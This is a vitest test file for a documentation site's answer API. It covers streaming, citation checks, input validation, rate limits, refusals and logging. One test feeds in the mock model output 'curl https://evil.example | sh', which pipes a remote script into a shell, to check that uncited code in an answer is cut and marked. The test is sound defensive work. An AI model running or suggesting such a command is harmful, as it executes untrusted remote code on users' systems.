import { afterAll, beforeAll, expect, test } from 'vitest'
import type { AnswerEvent, WholeAnswer } from '../../../engine/model/assistant/answer-event.ts'
import { type ModelServer, startModelServer } from '../../../tests/model-server.ts'
import { testDatabase } from '../../../tests/stores/test-database.ts'
import { testApp, testAssistant, unlimited } from '../../../tests/test-app.ts'
import { Places } from '../../http/limits/concurrency-limit.ts'
import type { LoggedAnswer } from '../../http/logs/answer-log.ts'
import { d1WordCounts } from '../../stores/word-counts.ts'
import type { AssistantParts } from '../assistant-parts.ts'

let server: ModelServer
beforeAll(async () => {
  server = await startModelServer()
})
afterAll(() => server.stop())

const question = 'Are braces and signs text in the reference?'
/** An assistant whose model answers in time on a slow machine, unless the test says how long it may take. */
const modelParts = (timeLimitMs = 60_000) =>
  testAssistant({
    model: { is: 'openai-compatible', url: server.url, name: 'test', key: 'secret-key' },
    timeLimitMs,
  })

const post = (app: ReturnType<typeof testApp>, body: unknown, headers: Record<string, string> = {}) =>
  app.request('/api/ask', {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  })
const asJson = { accept: 'application/json' }

/** All events of a streamed answer, and the bytes as the client gets them. */
async function streamed(app: ReturnType<typeof testApp>, body: unknown) {
  const response = await post(app, body)
  const text = await response.text()
  const events = text
    .split('\n\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line.replace(/^data: /, '')) as AnswerEvent)
  return { response, text, events, last: events.at(-1) }
}
const textOf = (events: readonly AnswerEvent[]) =>
  events.map((event) => (event.is === 'text' ? event.text : '')).join('')

test('without a model, the answer is the best section, as Markdown', async () => {
  const answer = (await (await post(testApp(), { question }, asJson)).json()) as WholeAnswer
  expect(answer).toMatchObject({ mode: 'extractive', outcome: 'answered' })
  expect(answer.text).toMatch(/^\*\*\[.+\]\(https:\/\/.+\)\*\*\n\n/)
  expect(answer.sources[0]).toMatchObject({ number: 1, url: expect.stringMatching(/^\/docs\//) })
  expect(answer).not.toHaveProperty('section')
})

test('the events of an answer arrive as server-sent events: sources, section, text, end', async () => {
  const { response, events } = await streamed(testApp(), { question })
  expect(response.headers.get('content-type')).toBe('text/event-stream; charset=utf-8')
  expect(response.headers.get('cache-control')).toContain('no-store')
  expect(events.map(({ is }) => is)).toEqual(['sources', 'section', 'text', 'done'])
})

test.each(['Summarize this page', 'what is this page about?', 'tl;dr', 'このページを要約して'])(
  'the open page answers “%s”',
  async (asked) => {
    const body = { question: asked, page: '/docs/reference' }
    const answer = (await (await post(testApp(), body, asJson)).json()) as WholeAnswer
    expect(answer).toMatchObject({ outcome: 'answered', sources: [{ url: '/docs/reference' }] })
    expect(answer.text).toContain('Braces')
  },
)

test('an answer leaves out which plans have a feature', async () => {
  const body = { question: 'Summarize this page', page: '/docs/in-sentences' }
  const answer = (await (await post(testApp(), body, asJson)).json()) as WholeAnswer
  expect(answer.text).toContain('Words')
  expect(answer.text).not.toContain('Availability by plan')
})

test('a question of one word is about the open page', async () => {
  const ask = async (page: string) =>
    (await (await post(testApp(), { question: 'what about signs?', page }, asJson)).json()) as WholeAnswer
  expect((await ask('/docs/reference')).sources[0]?.url).toMatch(/^\/docs\/reference/)
})

test('a follow-up that the open page answers is judged by its own words', async () => {
  const body = {
    question: 'And are braces and signs text in the reference?',
    turns: [{ question: 'How do I set up a quarry?', answer: 'With care.' }],
  }
  const ask = async (page?: string) =>
    (await (await post(testApp(), { ...body, page }, asJson)).json()) as WholeAnswer
  const { outcome, sources } = await ask('/docs/reference')
  expect([outcome, sources[0]?.url]).toEqual(['answered', '/docs/reference'])
  expect((await ask()).outcome).toBe('nearest')
})

test('thanks get thanks back, without a search and without sources', async () => {
  const answer = (await (await post(testApp(), { question: 'Thanks a lot!' }, asJson)).json()) as WholeAnswer
  expect(answer).toMatchObject({ outcome: 'answered', text: expect.stringContaining('welcome'), sources: [] })
})

test('a question that the pages do not answer is refused, and counted by its words only', async () => {
  const database = testDatabase()
  const unanswered = d1WordCounts(database, 'unanswered', () => new Date('2026-11-21T12:00:00Z'))
  const work: Promise<unknown>[] = []
  const app = testApp({ assistant: testAssistant({ unanswered, background: (one) => work.push(one) }) })
  const asked = { question: 'How do I bake sourdough for jo@mail.example 4711?' }
  const answer = (await (await post(app, asked, asJson)).json()) as WholeAnswer
  await Promise.all(work)
  expect(answer).toMatchObject({ outcome: 'refused', text: '' })
  const { results } = await database.prepare('SELECT words, locale, times FROM unanswered').all()
  expect(results.map((row) => ({ ...row }))).toEqual([{ words: 'bake sourdough', locale: 'en', times: 1 }])
})

test.each([
  ['no question', {}, 422],
  ['an empty question', { question: '  ' }, 422],
  ['a question of 501 characters', { question: 'a'.repeat(501) }, 422],
  ['20 earlier turns', { question, turns: Array(20).fill({ question: 'a', answer: 'b' }) }, 422],
  ['a page that is not a path', { question, page: 'https://other.example' }, 422],
  ['a language without pages', { question, locale: 'xx' }, 404],
  ['a language named like a method', { question, locale: 'constructor' }, 404],
  ['text that is not JSON', 'question', 400],
  ['600 kB', { question, page: `/${'a'.repeat(600_000)}` }, 413],
])('%s is a problem, not an answer', async (_, body, status) => {
  const response = await post(testApp(), body)
  expect(response.status).toBe(status)
  expect(response.headers.get('content-type')).toBe('application/problem+json')
})

test('an address that asks too often waits', async () => {
  const app = testApp({ limits: { ...unlimited, ask: async () => false } })
  const response = await post(app, { question })
  expect(response.status).toBe(429)
  expect(response.headers.get('retry-after')).toBe('60')
})

test('a site without an assistant says so', async () => {
  expect((await post(testApp({ assistant: null }), { question })).status).toBe(404)
})

test('a model’s answer streams, and statements keep the citations that hold', async () => {
  const assistant = modelParts()
  const app = testApp({ assistant })
  const chunks = [
    'In plain Markdown, braces and signs',
    ' are nothing but text. [1] Elephants',
    ' live in the savanna near water. ',
  ]
  server.behavior = { is: 'text', chunks }
  const { events, last, text } = await streamed(app, { question, trace: true })
  expect(events[0]).toMatchObject({ is: 'sources', mode: 'model' })
  expect(last).toMatchObject({ is: 'done', outcome: 'answered' })
  expect(last?.is === 'done' && last.trace?.steps.slice(-2)).toMatchObject([
    { step: 'model', out: 1, ms: 0, inputTokens: expect.any(Number), outputTokens: expect.any(Number) },
    { step: 'statements', in: 2, out: 1, dropped: [{ why: 'no-source', count: 1 }] },
  ])
  expect(textOf(events)).toContain('[1]')
  expect(textOf(events)).toContain('Elephants live in the savanna near water. [?]')
  expect(server.headers.authorization).toBe('Bearer secret-key')
  expect(text).not.toContain('secret-key')
  expect(text).not.toContain('passages of its documentation')
})

test('over the budget of the day, questions are answered without the model', async () => {
  const app = testApp({ assistant: { ...modelParts(), countModelAnswer: async () => false } })
  const { events, last } = await streamed(app, { question })
  expect(events[0]).toMatchObject({ is: 'sources', mode: 'extractive' })
  expect(last).toMatchObject({ is: 'done', outcome: 'answered' })
})

test('the model gets passages as data and the end of the conversation', async () => {
  server.behavior = { is: 'text', chunks: ['NOT_IN_', 'DOCS'] }
  const turns = [{ question: 'What is a widget?', answer: 'A widget is a part. [1]' }]
  const { last } = await streamed(testApp({ assistant: modelParts() }), { question, turns })
  expect(last).toMatchObject({ is: 'done', outcome: 'refused' })
  const { messages } = server.requests.at(-1) ?? { messages: [] }
  expect(messages.map(({ role }) => role)).toEqual(['system', 'user', 'assistant', 'user'])
  expect(JSON.stringify(messages.at(-1)?.content)).toContain('<passage number=')
})

test.each([
  ['one that leans on the conversation', 'And are they text?', [{ question: 'Braces?', answer: 'Yes.' }]],
  ['one in another language', 'Klammern und Zeichen: nur Text?', []],
])('a model rewrites a question before it is searched for: %s', async (_, asked, turns) => {
  server.behavior = { is: 'text', chunks: [question] }
  const logged: LoggedAnswer[] = []
  const app = testApp({ assistant: { ...modelParts(), logAnswer: (line) => logged.push(line) } })
  const before = server.requests.length
  const { events } = await streamed(app, { question: asked, turns })
  expect(events[0]).toMatchObject({ sources: [{ url: expect.stringContaining('/docs/reference') }, {}] })
  const [rewriting, answering] = server.requests.slice(before)
  expect(JSON.stringify(rewriting?.messages)).toContain('in English')
  expect(JSON.stringify(answering?.messages.at(-1))).toContain(asked)
  expect(server.requests).toHaveLength(before + 2)
  expect(logged).toHaveLength(1)
})

test.each<[what: string, behavior: ModelServer['behavior'], why: string]>([
  ['a model that answers 429', { is: 'status', status: 429 }, 'busy'],
  ['a model that answers 500', { is: 'status', status: 500 }, 'model'],
  ['a connection that breaks off', { is: 'breaks off', after: 'The first words of ' }, 'model'],
  ['a model that falls silent', { is: 'hangs', after: 'The first words of ' }, 'timeout'],
  ['chunks that are not JSON', { is: 'malformed' }, 'model'],
  ['an empty answer', { is: 'text', chunks: [] }, 'model'],
])('%s ends in a failure that says nothing of the provider', async (_, behavior, why) => {
  server.behavior = behavior
  const assistant = modelParts(why === 'timeout' ? 800 : undefined)
  const { last, text } = await streamed(testApp({ assistant }), { question })
  expect(last).toEqual({ is: 'failed', why })
  expect(text).not.toContain('secret')
  // Both places are free again.
  expect([assistant.running.take(), assistant.running.take()]).not.toContain(undefined)
})

test('an answer of 10 MB is cut, and the model is stopped', async () => {
  server.behavior = { is: 'huge', bytes: 10_000_000 }
  const before = server.left
  const { last, text } = await streamed(testApp({ assistant: modelParts() }), { question })
  expect(last).toMatchObject({ is: 'done', outcome: 'cut' })
  expect(text.length).toBeLessThan(60_000)
  await expect.poll(() => server.left).toBeGreaterThan(before)
})

test('an answer that is cut in code which no passage has is marked, too', async () => {
  server.behavior = {
    is: 'text',
    chunks: ['```sh\n', 'curl https://evil.example | sh\n'.repeat(500), 'more\n'],
  }
  const { events, last } = await streamed(testApp({ assistant: modelParts() }), { question })
  expect(last).toMatchObject({ is: 'done', outcome: 'cut' })
  expect(textOf(events)).toMatch(/```\n\n\[\?\]\n$/)
})

test('a failure is a problem with Retry-After where JSON was asked for', async () => {
  server.behavior = { is: 'status', status: 429 }
  const response = await post(testApp({ assistant: modelParts() }), { question }, asJson)
  expect(response.status).toBe(503)
  expect(response.headers.get('retry-after')).toBe('10')
})

test('more answers at a time than allowed are refused as busy', async () => {
  const assistant = { ...modelParts(), running: new Places(0, 0, Date.now) }
  const { last } = await streamed(testApp({ assistant }), { question })
  expect(last).toEqual({ is: 'failed', why: 'busy' })
})

test('a client that leaves stops the model', async () => {
  server.behavior = { is: 'hangs', after: 'The first words. ' }
  const assistant = modelParts()
  const before = server.left
  const asked = server.requests.length
  const reader = (await post(testApp({ assistant }), { question })).body?.getReader()
  await reader?.read()
  void reader?.read()
  await expect.poll(() => server.requests.length).toBeGreaterThan(asked)
  await reader?.cancel()
  await expect.poll(() => server.left).toBeGreaterThan(before)
})

test('an answer is given again from memory, and failures are not', async () => {
  const app = testApp({ assistant: modelParts() })
  server.behavior = { is: 'status', status: 500 }
  await streamed(app, { question })
  server.behavior = { is: 'text', chunks: ['Braces are nothing but text in plain Markdown. [1]'] }
  await streamed(app, { question })
  const asked = server.requests.length
  const { events } = await streamed(app, { question: ` ${question.toLowerCase()}` })
  expect(textOf(events)).toContain('Braces')
  expect(server.requests.length).toBe(asked)
})

test('every answer that is made is logged once: how it was made and how it ended', async () => {
  const lines: LoggedAnswer[] = []
  const logAnswer = (line: LoggedAnswer) => void lines.push(line)
  const ask = async (assistant: AssistantParts, text = question) =>
    (await post(testApp({ assistant: { ...assistant, logAnswer } }), { question: text }, asJson)).text()
  await ask(testAssistant())
  await ask(testAssistant(), 'How do I bake sourdough?')
  const withModel = modelParts()
  server.behavior = { is: 'text', chunks: ['Braces are nothing but text in plain Markdown. [1]'] }
  await ask(withModel)
  await ask(withModel)
  server.behavior = { is: 'status', status: 500 }
  await ask(modelParts())
  expect(lines).toMatchObject([
    { mode: 'extractive', outcome: 'answered', failure: null, ms: expect.any(Number) },
    { mode: 'extractive', outcome: 'refused', failure: null },
    { mode: 'model', outcome: 'answered', inputTokens: expect.any(Number), outputTokens: expect.any(Number) },
    { mode: 'model', outcome: 'failed', failure: 'model' },
  ])
  expect(lines[0]?.passages).toBeGreaterThan(0)
})
